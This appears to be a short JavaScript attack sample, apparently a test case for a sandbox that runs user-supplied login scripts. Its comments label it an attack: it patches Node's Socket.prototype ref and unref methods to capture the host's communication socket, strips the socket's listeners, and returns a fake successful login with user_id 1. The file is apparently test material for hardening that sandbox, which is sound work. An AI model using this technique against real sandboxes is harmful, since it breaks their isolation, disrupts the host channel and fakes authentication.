// attack: catch the channel's object as `this` of a patched method, then end it
// outcome: any
function login(email, password, callback) {
  const { Socket } = require('net');
  const { ref, unref } = Socket.prototype;
  const seize = (socket, method) => {
    socket.removeAllListeners();
    socket.on('data', () => {});
    return method.call(socket);
  };
  Socket.prototype.ref = function () {
    return seize(this, ref);
  };
  Socket.prototype.unref = function () {
    return seize(this, unref);
  };
  callback(null, { user_id: 1 });
}
